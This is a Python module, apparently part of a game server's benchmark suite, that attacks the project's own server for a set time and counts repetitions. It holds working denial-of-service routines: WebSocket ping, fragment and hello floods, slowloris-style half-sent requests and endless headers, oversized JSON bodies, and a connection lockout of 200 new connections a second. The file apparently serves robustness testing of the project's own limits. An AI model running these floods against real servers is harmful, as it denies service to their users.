"""Attack a server for some seconds, as one client: a program of its own.

    python -m bench.attack_client NAME ADDRESS MATCH_ID SECONDS

An attack reconnects as fast as it can when the server closes its connection. The program prints the number of
repetitions of the attack: messages, requests or connections.
"""

from __future__ import annotations

import asyncio
import json
import re
import sys
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, suppress
from typing import cast

import uvloop

from support.network.raw_connection import CONTINUATION, PING, TEXT, RawConnection

PROXIED_ATTACKER = "192.0.2.66"
"""The address of an attacker behind a proxy."""
DIRECT_ATTACKER = "127.0.0.2"
"""The address of an attacker without a proxy."""
HELLO = b'{"type":"hello"}'
MAX_OPEN = 300
"""Connections of one attack that are open at the same time."""
MAX_HELLOS_PER_SOCKET = 195
"""A little less than the number of `hello` messages after which the server closes a socket."""

Attack = Callable[[str, str, Callable[[], bool]], int]


def _open_socket(address: str, match_id: str) -> RawConnection | None:
    """Open a socket at the match; return None if the server refuses it."""
    connection = None
    with suppress(OSError):
        connection = RawConnection(address, PROXIED_ATTACKER, timeout=5)
        if " 101 " in connection.upgrade(f"/api/matches/{match_id}/live"):
            return connection
    if connection is not None:
        connection.close()
    return None


def _open_sockets(address: str, match_id: str, is_running: Callable[[], bool]) -> Iterator[RawConnection]:
    """Yield sockets at the match, a new one when the last one is closed."""
    while is_running():
        connection = _open_socket(address, match_id)
        if connection is not None:
            with connection:
                yield connection


def _send_flood(
    address: str, match_id: str, is_running: Callable[[], bool], first: bytes, piece: bytes, count: int
) -> int:
    sent = 0
    for connection in _open_sockets(address, match_id, is_running):
        alive = connection.send(first)
        connection.socket.setblocking(False)
        while alive and is_running():
            try:
                sent += connection.socket.send(piece) * count // len(piece)
                connection.socket.recv(1 << 20)
            except BlockingIOError:
                time.sleep(0.001)
            except OSError:
                alive = False
    return sent


def ping_flood(address: str, match_id: str, is_running: Callable[[], bool]) -> int:
    """Send ping frames of six bytes without end."""
    frame = bytes([0x80 | PING, 0x80, 0, 0, 0, 0])
    return _send_flood(address, match_id, is_running, b"", frame * 2000, 2000)


def fragment_flood(address: str, match_id: str, is_running: Callable[[], bool]) -> int:
    """Send a message in empty fragments without end."""
    first, part = bytes([TEXT, 0x81, 0, 0, 0, 0]) + b"{", bytes([CONTINUATION, 0x80, 0, 0, 0, 0])
    return _send_flood(address, match_id, is_running, first, part * 2000, 2000)


def hello_flood(address: str, match_id: str, is_running: Callable[[], bool]) -> int:
    """Send `hello` messages without end, over a new socket when one is closed."""
    frame = bytes([0x80 | TEXT, 0x80 | len(HELLO), 0, 0, 0, 0]) + HELLO
    return _send_flood(address, match_id, is_running, b"", frame * 20, 20)


def hello_rate_limit(address: str, match_id: str, is_running: Callable[[], bool]) -> int:
    """Keep twenty sockets that send `hello` as often as is allowed and reconnect before the server closes them."""
    frame = bytes([0x80 | TEXT, 0x80 | len(HELLO), 0, 0, 0, 0]) + HELLO
    sockets: dict[RawConnection, int] = {}
    sent = 0
    while is_running():
        if len(sockets) < 20 and (connection := _open_socket(address, match_id)) is not None:
            connection.socket.setblocking(False)
            sockets[connection] = 0
        for connection in list(sockets):
            try:
                connection.socket.send(frame)
                sent += 1
                sockets[connection] += 1
                connection.socket.recv(1 << 20)
            except BlockingIOError:
                pass
            except OSError:
                sockets[connection] = MAX_HELLOS_PER_SOCKET
            if sockets[connection] >= MAX_HELLOS_PER_SOCKET:
                del sockets[connection]
                connection.close()
        time.sleep(0.001)
    for connection in sockets:
        connection.close()
    return sent


def sockets_that_do_not_read(address: str, match_id: str, is_running: Callable[[], bool]) -> int:
    """Open sockets that send `hello` and never read the answers."""
    with ExitStack() as opened:
        sockets: list[RawConnection] = []
        count = 0
        while is_running():
            if len(sockets) < MAX_OPEN and (connection := _open_socket(address, match_id)) is not None:
                sockets.append(opened.enter_context(connection))
            for connection in sockets[-20:]:
                connection.socket.setblocking(False)
                with suppress(OSError):
                    connection.socket.send(connection.frame(TEXT, HELLO) * 10)
                    count += 10
            time.sleep(0.005)
        return count


def sockets_without_hello(address: str, match_id: str, is_running: Callable[[], bool]) -> int:
    """Open sockets that never send `hello`."""
    with ExitStack() as opened:
        count = 0
        while is_running():
            connection = _open_socket(address, match_id) if count < MAX_OPEN else None
            if connection is None:
                time.sleep(0.005)
            else:
                opened.enter_context(connection)
                count += 1
        return count


def unfinished_requests(address: str, match_id: str, is_running: Callable[[], bool]) -> int:
    """Open connections with the first half of a request."""
    with ExitStack() as opened:
        count = 0
        while is_running():
            if count < MAX_OPEN:
                half = opened.enter_context(RawConnection(address, PROXIED_ATTACKER, timeout=5))
                half.send(b"GET / HTTP/1.1\r\nHost: localhost\r\n")
                count += 1
            else:
                time.sleep(0.005)
        return count


def endless_headers(address: str, match_id: str, is_running: Callable[[], bool]) -> int:
    """Send request headers without end."""
    count = 0
    while is_running():
        with suppress(OSError), RawConnection(address, PROXIED_ATTACKER, timeout=5) as connection:
            connection.send(b"GET / HTTP/1.1\r\nHost: localhost\r\n")
            while is_running() and connection.send(b"a: " + b"b" * 4000 + b"\r\n"):
                count += 1
    return count


def _repeat_request(address: str, is_running: Callable[[], bool], line: str, body: bytes = b"") -> int:
    count = 0
    while is_running():
        with suppress(OSError), RawConnection(address, PROXIED_ATTACKER, timeout=20) as connection:
            headers = (f"Content-Length: {len(body)}", "Content-Type: application/json") if body else ()
            request = connection.head(f"{line} HTTP/1.1", *headers) + body
            while is_running() and connection.send(request):
                if not connection.socket.recv(1 << 20):
                    break
                count += 1
    return count


def state_requests(address: str, match_id: str, is_running: Callable[[], bool]) -> int:
    """Ask for the state of a match without a pause."""
    return _repeat_request(address, is_running, f"GET /api/matches/{match_id}")


def large_records(address: str, match_id: str, is_running: Callable[[], bool]) -> int:
    """Send a megabyte of JSON numbers as a record."""
    body = b'{"format":"limina/1","x":[' + b"1," * 500_000 + b"1]}"
    return _repeat_request(address, is_running, "POST /api/replay", body)


def replay_requests(address: str, match_id: str, is_running: Callable[[], bool]) -> int:
    """Ask for the replay of a long match over eight connections."""
    with ThreadPoolExecutor(8) as threads:
        line = f"GET /api/matches/{match_id}/replay"
        return sum(threads.map(lambda _: _repeat_request(address, is_running, line), range(8)))


def match_lists(address: str, match_id: str, is_running: Callable[[], bool]) -> int:
    """Ask for the list of matches with as many seat tokens as are allowed."""
    people = b'{"game":"limes","seats":[' + b",".join([b'{"kind":"person"}'] * 8) + b"]}"
    seat_tokens: list[str] = []
    with RawConnection(address, PROXIED_ATTACKER, timeout=20) as connection:
        for _ in range(50):
            headers = (f"Content-Length: {len(people)}", "Content-Type: application/json")
            connection.send(connection.head("POST /api/matches HTTP/1.1", *headers) + people)
            answer = b""
            while (head_end := answer.find(b"\r\n\r\n")) < 0 or len(answer) < head_end + 4 + _length(answer):
                answer += connection.socket.recv(1 << 20)
            if b" 201 " not in answer[:40]:
                break
            created = json.loads(answer[head_end + 4 :])
            seat_tokens += [seat["seat_token"] for seat in created["seat_tokens"]]
    body = json.dumps({"seat_tokens": seat_tokens[:200]}).encode()
    return _repeat_request(address, is_running, "POST /api/me/matches", body)


def connection_lockout(address: str, match_id: str, is_running: Callable[[], bool]) -> int:
    """Keep 150 connections busy with requests for the page and open 200 more per second, from one address."""
    host, _, port = address.removeprefix("http://").partition(":")
    count = 0

    class BusyConnection(asyncio.Protocol):
        def __init__(self) -> None:
            self.lost: asyncio.Future[None] = asyncio.get_running_loop().create_future()

        def connection_made(self, transport: asyncio.BaseTransport) -> None:
            self.transport = cast(asyncio.Transport, transport)
            self.send_request()

        def send_request(self) -> None:
            self.transport.write(f"GET / HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())

        def data_received(self, data: bytes) -> None:
            nonlocal count
            if data.startswith(b"HTTP/1.1 "):
                count += 1
                self.send_request()

        def connection_lost(self, exc: Exception | None) -> None:
            if not self.lost.done():
                self.lost.set_result(None)

    async def open_connection(protocol: type[asyncio.Protocol]) -> tuple[asyncio.Transport, asyncio.Protocol]:
        source = (DIRECT_ATTACKER, 0)
        return await asyncio.get_running_loop().create_connection(protocol, host, int(port), local_addr=source)

    async def keep_busy() -> None:
        while is_running():
            with suppress(OSError, TimeoutError):
                transport, busy = await open_connection(BusyConnection)
                async with asyncio.timeout(1):
                    assert isinstance(busy, BusyConnection)
                    while is_running():
                        await asyncio.wait([busy.lost], timeout=0.2)
                        if busy.lost.done():
                            break
                transport.close()

    async def connect_and_close() -> None:
        started, openings = time.monotonic(), 0
        while is_running():
            with suppress(OSError):
                (await open_connection(asyncio.Protocol))[0].close()
            openings += 1
            await asyncio.sleep(max(0.0, started + openings / 200 - time.monotonic()))

    async def run_all() -> None:
        await asyncio.gather(*(keep_busy() for _ in range(150)), connect_and_close())

    uvloop.run(run_all())
    return count


def unfinished_bodies(address: str, match_id: str, is_running: Callable[[], bool]) -> int:
    """Send requests of two clients whose bodies of a megabyte lack the last byte."""
    size = 1024 * 1024
    with ExitStack() as opened:
        count = 0
        while is_running():
            for index in range(64 if count < 64 else 0):
                half = opened.enter_context(RawConnection(address, f"192.0.2.{200 + index % 2}", timeout=5))
                headers = ("Content-Type: application/json", f"Content-Length: {size}")
                count += half.send(half.head("POST /api/replay HTTP/1.1", *headers) + b" " * (size - 1))
            time.sleep(0.05)
        return count


def _length(answer: bytes) -> int:
    header = re.search(rb"content-length: (\d+)", answer, re.IGNORECASE)
    return int(header[1]) if header else 0


def _by_name(*attacks: Attack) -> dict[str, Attack]:
    return {attack.__name__.replace("_", " "): attack for attack in attacks}


ATTACKS = _by_name(
    ping_flood,
    fragment_flood,
    hello_flood,
    hello_rate_limit,
    sockets_that_do_not_read,
    sockets_without_hello,
    unfinished_requests,
    endless_headers,
    state_requests,
    large_records,
    replay_requests,
    match_lists,
)
ATTACKS_ON_NEW_CLIENTS = _by_name(connection_lockout, unfinished_bodies)


def main() -> None:
    """Run the attack and print the number of repetitions."""
    name, address, match_id, seconds = sys.argv[1:]
    end = time.monotonic() + float(seconds)
    print((ATTACKS | ATTACKS_ON_NEW_CLIENTS)[name](address, match_id, lambda: time.monotonic() < end))


if __name__ == "__main__":
    main()
